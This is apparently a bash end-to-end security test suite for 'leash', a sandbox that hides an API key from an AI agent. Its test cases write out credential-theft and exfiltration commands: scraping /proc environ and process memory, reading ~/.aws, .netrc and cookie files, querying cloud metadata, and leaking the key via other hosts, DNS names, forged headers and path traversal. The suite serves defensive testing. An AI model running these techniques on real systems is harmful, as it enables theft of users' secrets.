# shellcheck shell=bash disable=SC2034
# SEC-01 to SEC-07: the agent holds placeholders; nothing that it does gets it a value.

group_secrets() {
	if [ -z "$HAVE_WORLD" ]; then
		skip "SEC secrets" "the test network needs root"
		return
	fi
	rm -rf -- "${WORK:?}"
	mkdir -p "$WORK"
	chown "$T_UID:$T_GID" "$WORK"
	ALLOWED=permitted.test DENIED=forbidden.test
	KEY=tok_$(head -c 60 /dev/urandom | base64 -w 0 | tr -d '+/=' | head -c 40)
	CALLER_ENV=("API_KEY=$KEY")
	SEEN=$T/seen
	: >"$SEEN"
	start_service python3 "$HERE/echo.py" "$SEEN" 203.0.113.10 8090
	start_service python3 "$HERE/echo.py" "$SEEN" 203.0.113.10 8091
	start_service python3 "$HERE/echo.py" "$SEEN" 203.0.113.66 8090
	policy <<-END
		permit (principal, action == Action::"NetworkConnect", resource == Host::"permitted.test");
		permit (principal, action == Action::"NetworkConnect", resource == Host::"other.test");
		permit (principal, action == Action::"NetworkConnect", resource == Host::"forbidden.test");
	END
	[ "$OUTSIDE" ] || LEASH_FLAGS+=(--secret 'API_KEY=env:API_KEY,host=http://permitted.test:8090,path=/v1/,header=x-api-key')
	secrets_found
	secrets_sent
	secrets_reflected
	inside secrets_recorded
	inside secrets_brokers
}

# judge NAME HOW-OFTEN: the value was seen where it must not be.
judge() {
	if [ ! "$OUTSIDE" ]; then
		is "$1" "$2" 0
	elif [ "$2" -gt 0 ]; then
		ok "$1: works without leash"
	else
		diag "no effect: $1"
	fi
}

# What the agent reads of anything is on its output: looked at from outside, it must hold no value.
found() { # NAME COMMAND…
	local name=$1
	shift
	leash_run -- "$@"
	judge "$name" "$(grep -acF -e "$KEY" -e "${KEY:8:24}" "$OUT")"
}

secrets_found() {
	found "SEC-01 the environment" env
	found "SEC-01 the environment of all processes" sh -c 'cat /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ | tr "\0" "\n"'
	found "SEC-01 command lines" sh -c 'cat /proc/[0-9]*/cmdline | tr "\0" "\n"; sh -c "echo $API_KEY"'
	found "SEC-01 memory of all processes" python3 -c '
import glob, re, sys
for maps in glob.glob("/proc/[0-9]*/maps"):
    try:
        memory = open(maps.replace("maps", "mem"), "rb", 0)
        for line in open(maps):
            a, b = (int(x, 16) for x in line.split()[0].split("-"))
            if line.split()[1][0] == "r" and "[v" not in line:
                memory.seek(a)
                for found in set(re.findall(rb"tok_[A-Za-z0-9]{20,}", memory.read(b - a))):
                    print(found.decode())
    except OSError: pass'
	found "SEC-01 a core dump" sh -c 'ulimit -c unlimited; cd "$HOME"; sh -c "kill -SEGV \$\$"; cat core* /var/lib/systemd/coredump/* /tmp/core* 2>/dev/null; echo "$API_KEY"'
	found "SEC-01 files of shells and tools" sh -c 'HISTFILE=$HOME/.history bash -ic "echo $API_KEY; history -a"; cat "$HOME"/.history; grep -ra tok_ "$HOME" /tmp /run /var/tmp /dev/shm 2>/dev/null'
	[ "$OUTSIDE" ] && return
	is "SEC-01 nothing that leash keeps has it" \
		"$(grep -rlaF "$KEY" "$STATE" "$T_HOME/.config" "$T_HOME/.cache" "$ERR" /run/user/"$T_UID" 2>/dev/null | wc -l)" 0
	is "SEC-01 no command line outside" "$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -caFf <(printf '%s\n' "$KEY"))" 0
}

# not_sent NAME COMMAND: no server that the secret is not for sees it.
not_sent() {
	: >"$SEEN"
	leash_run -- sh -c "curl() { command curl -sS --max-time 8 \"\$@\"; }; $2"
	judge "$1" "$(grep -v "^GET /v1/redirect" "$SEEN" | grep -cF "$KEY")"
}

secrets_sent() {
	local name command
	: >"$SEEN"
	# shellcheck disable=SC2016
	leash_run -- sh -c 'curl -sS --max-time 8 -H "x-api-key: $API_KEY" http://permitted.test:8090/v1/x'
	is "SEC-02 where it is bound to, it goes" "$(grep -cF "$KEY" "$SEEN")" 1
	while IFS='|' read -r name command; do
		not_sent "SEC-02 $name" "$command"
	done <<'END'
another host|curl -H "x-api-key: $API_KEY" http://forbidden.test:8090/v1/x
a forged Host|curl -H "x-api-key: $API_KEY" -H "Host: permitted.test:8090" http://forbidden.test:8090/v1/x
another name of the address|curl -H "x-api-key: $API_KEY" http://other.test:8090/v1/x
the address|curl -H "x-api-key: $API_KEY" http://203.0.113.10:8090/v1/x
another port|curl -H "x-api-key: $API_KEY" http://permitted.test:8091/v1/x
another path|curl -H "x-api-key: $API_KEY" http://permitted.test:8090/v2/x
a way out of the path|curl --path-as-is -H "x-api-key: $API_KEY" http://permitted.test:8090/v1/../v2/x
an encoded way out|curl --path-as-is -H "x-api-key: $API_KEY" http://permitted.test:8090/v1/%2e%2e/v2/x
another header|curl -H "x-other: $API_KEY" http://permitted.test:8090/v1/x
the query|curl "http://permitted.test:8090/v1/x?k=$API_KEY"
the path|curl "http://permitted.test:8090/v1/$API_KEY"
a body|curl -d "$API_KEY" http://permitted.test:8090/v1/x
a redirection|curl -L -H "x-api-key: $API_KEY" "http://permitted.test:8090/v1/redirect?to=http://forbidden.test:8090/v1/x" | grep -v "^x-api-key"
a second request that is pipelined|printf 'GET /v1/x HTTP/1.1\r\nHost: permitted.test:8090\r\n\r\nGET /v2/x HTTP/1.1\r\nHost: permitted.test:8090\r\nx-api-key: %s\r\n\r\n' "$API_KEY" | nc -w 3 permitted.test 8090
a name in a question|getent hosts "$API_KEY.forbidden.test"; curl "http://$API_KEY.forbidden.test/"
END
	inside is "SEC-07 no question had it" "$(grep -ciF "${KEY:0:30}" "$QUERIES")" 0
}

secrets_reflected() {
	local name command
	while IFS='|' read -r name command; do
		found "SEC-03 $name" sh -c "curl() { command curl -sS --max-time 8 -H \"x-api-key: \$API_KEY\" \"\$@\"; }; $command"
	done <<'END'
an echo of the head|curl http://permitted.test:8090/v1/echo
an error page|curl http://permitted.test:8090/v1/error
a response's fields and cookies|curl -i http://permitted.test:8090/v1/fields
the reason of a status|curl -i http://permitted.test:8090/v1/reason
TRACE|curl -X TRACE http://permitted.test:8090/v1/echo
a log of the client's|curl -v --trace-ascii "$HOME/trace" http://permitted.test:8090/v1/fields; cat "$HOME/trace"
byte by byte|curl http://permitted.test:8090/v1/slow
base64|curl http://permitted.test:8090/v1/base64 | base64 -d
base64, shifted|curl http://permitted.test:8090/v1/base64x | base64 -d
base64url|curl http://permitted.test:8090/v1/base64url | tr -- -_ +/ | base64 -d
hexadecimal|curl http://permitted.test:8090/v1/hex | perl -pe 's/([0-9a-f]{2})/chr hex $1/gie'
gzip that was not asked for|curl http://permitted.test:8090/v1/gzip | gzip -d
END
	[ "$OUTSIDE" ] && return
	is "SEC-03 the servers saw it each time" "$(($(grep -cF "$KEY" "$SEEN") > 8))" 1
	is "SEC-03 no log has it" "$(grep -rlaF "$KEY" "$STATE" "$ERR" | wc -l)" 0
	# SEC-06: what leash writes of a request.
	leash_run -- sh -c 'curl -sS "http://permitted.test:8090/v1/x?token=abcdef0123456789"'
	is "SEC-06 a query is not in the log" "$(grep -rla abcdef0123456789 <(leash_events_urls) | wc -l)" 0
}

leash_events_urls() {
	as_user "$LEASH" events --json | jq -r '.url // empty'
}

# Everything that can be had of a session: its files, what the commands say of it, and what its API answers.
what_is_told() {
	local id=${1##*/}
	cat "$1"/*
	as_user "$LEASH" events --json "$id"
	as_user "$LEASH" events "$id"
	as_user "$LEASH" export --jsonl "$id"
	as_user "$LEASH" export --otlp "$id"
	as_user "$LEASH" sessions --json
	cat "$T/answers" "$ERR"
}

# The API's answers, and what comes over its WebSocket while the session runs.
ask_api() {
	as_user env PYTHONDONTWRITEBYTECODE=1 PYTHONPATH="$T" python3 -c '
import api, json, sys
a = api.Api(18097, api.token_of(18097))
live = api.WebSocket(a, "/api?since=0")
said = live.until(lambda m: any(e["kind"] == "proc.exec" and "the-last" in e.get("argv", ()) for e in api.events_of([m])), 60)
said += [a.get(p).body.decode() for p in ("/api/session", "/api/events?limit=1000", "/api/policies", "/api/policies/suggest", "/metrics")]
print(json.dumps(said))' >"$T/answers"
}

# SEC-06: the agent found the value elsewhere. What it does with it is in the log, and the value is not.
secrets_recorded() {
	local form directory told=$T/told
	declare -A forms=()
	install -m 644 "$ROOT/tests/e2e/support/api.py" "$T/api.py"
	printf '%s' "$KEY" | user_file "$WORK/found"
	forms[raw]=$KEY
	forms[base64]=$(printf '%s' "$KEY" | base64 -w 0)
	forms[shifted]=$(printf 'x%s' "$KEY" | base64 -w 0)
	forms[base64url]=$(printf '%s' "$KEY" | base64 -w 0 | tr '+/' '-_' | tr -d '=')
	forms[hex]=$(printf '%s' "$KEY" | xxd -p -c 0)
	forms[HEX]=${forms[hex]^^}
	forms[percent]=$(sed 's/../%&/g' <<<"${forms[hex]}")
	user_file "$WORK/agent.sh" <<-'END'
		exec >/dev/null 2>&1
		curl() { command curl -sS --max-time 8 "$@"; }
		key=$(cat found)
		for form; do
			/bin/true "$form" "--key=$form" "Bearer $form." "${form%?}"
			cat "no-$form"
			curl "http://permitted.test:8090/v1/$form" "http://permitted.test:8090/v1/x?k=$form" "http://permitted.test:8090/$form/x"
			curl -X "$form" -A "$form" -d "$form" http://permitted.test:8090/v1/x
		done
		cp /bin/true "$key"
		"./$key"
		mkdir "in-$key"
		mv found "in-$key/found"
		(cd "in-$key" && /bin/true && cat ./found)
		mv "in-$key/found" found
		getent hosts "$key.forbidden.test"
		curl "http://$key.forbidden.test/"
		socat -t 2 - "TCP:$key.other.test:8090" </dev/null
		/bin/true no-secret-here
		/bin/true the-last
		sleep 2
	END
	leash_start -l 18097 -- /bin/sh agent.sh "${forms[@]}"
	ask_api
	leash_wait
	directory=$(session_directory)
	what_is_told "$directory" >"$told" 2>&1
	check "SEC-06 the API was asked" grep -q the-last "$T/answers"
	for form in "${!forms[@]}"; do
		is "SEC-06 what is told of a session has no value ($form)" "$(grep -acF -e "${forms[$form]}" -e "${forms[$form]%?}" "$told")" 0
	done
	is "SEC-06 ... in small letters, as hosts are written" "$(grep -acF -e "${KEY,,}" "$told")" 0
	is "SEC-06 ... and not the beginning of it, as a process's name has it" "$(grep -acF "${KEY:0:12}" "$told")" 0
	check_event "SEC-06 arguments say whose value was there" \
		'.kind == "proc.exec" and .redacted and (.argv | index("--key=[secret API_KEY]"))'
	check_event "SEC-06 ... and the command's own" '.kind == "session.start" and .redacted and (.argv | index("[secret API_KEY]"))'
	check_event "SEC-06 ... a path" '.kind == "file.open" and .redacted and .path == $p' --arg p "$WORK/in-[secret API_KEY]/found"
	check_event "SEC-06 ... a program" '.kind == "proc.exec" and .path == $p' --arg p "$WORK/[secret API_KEY]"
	check_event "SEC-06 ... its directory" '.cwd == $p' --arg p "$WORK/in-[secret API_KEY]"
	check_event "SEC-06 ... a URL" '.kind == "http.request" and .redacted and .url == "http://permitted.test:8090/v1/[secret API_KEY]"'
	check_event "SEC-06 ... a host" '.kind == "dns.query" and .redacted and .host == "[secret API_KEY].forbidden.test"'
	check_event "SEC-06 other records are as they were" '.kind == "proc.exec" and (.redacted | not) and (.argv | index("no-secret-here"))'
	check "SEC-06 ... session.json" jq -e '.command | index("[secret API_KEY]")' "$directory/session.json"
	like "SEC-06 leash events says so" "$(as_user "$LEASH" events --kind proc.exec)" "a secret's value was left out"
	check "SEC-06 the chain is over what is kept" as_user "$LEASH" verify "${directory##*/}"
	rm -rf -- "$WORK"/*
}

# SEC-05: who would hand out keys of the user's.
secrets_brokers() {
	local socket sockets=(ssh-agent gpg-agent docker.sock bus keyring/control) pids=()
	mkdir -p "$T_HOME/brokers/keyring" "$T_HOME/.aws" "$T_HOME/.docker" "$T_HOME/.config/gcloud" "$T_HOME/.mozilla/firefox/x" "$T_HOME/.kube"
	for file in .aws/credentials .docker/config.json .config/gcloud/credentials.db .git-credentials .netrc .mozilla/firefox/x/cookies.sqlite .kube/config; do
		printf '%s' "$SECRET" >"$T_HOME/$file"
	done
	chown -R "$T_UID:$T_GID" "$T_HOME/brokers" "$T_HOME/.aws" "$T_HOME/.docker" "$T_HOME/.config" "$T_HOME/.git-credentials" "$T_HOME/.netrc" "$T_HOME/.mozilla" "$T_HOME/.kube"
	for socket in "${sockets[@]}"; do
		socat "UNIX-LISTEN:$T_HOME/brokers/$socket,fork,mode=666" SYSTEM:"echo $SECRET" 2>>"$T/service.log" &
		pids+=($!)
		wait_for 10 test -S "$T_HOME/brokers/$socket"
	done
	LEASH_FLAGS=(-I --profile guarded)
	for socket in "${sockets[@]}"; do
		leash_run -e "SSH_AUTH_SOCK=$T_HOME/brokers/ssh-agent" -- socat -t 3 - "UNIX-CONNECT:$T_HOME/brokers/$socket" </dev/null
		unlike "SEC-05 $socket gives nothing" "$(out)" "$SECRET"
	done
	for file in .aws/credentials .docker/config.json .config/gcloud/credentials.db .git-credentials .netrc .mozilla/firefox/x/cookies.sqlite .kube/config; do
		leash_run -- cat "$T_HOME/$file"
		unlike "SEC-05 ~/$file cannot be read" "$(out)" "$SECRET"
	done
	leash_run -- curl -sS --max-time 8 http://169.254.169.254/latest/meta-data/iam/security-credentials/
	unlike "SEC-05 the cloud's metadata are not reached" "$(out)" hello
	leash_run -- python3 -c '
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
add, keyctl = (248, 250) if platform.machine() == "x86_64" else (217, 219)
print(libc.syscall(add, b"user", b"x", b"y", 1, -4), libc.syscall(keyctl, 0, -4, 0))'
	is "SEC-05 the kernel's keyrings are closed" "$(out)" "-1 -1"
	kill "${pids[@]}"
	wait "${pids[@]}" 2>/dev/null
}
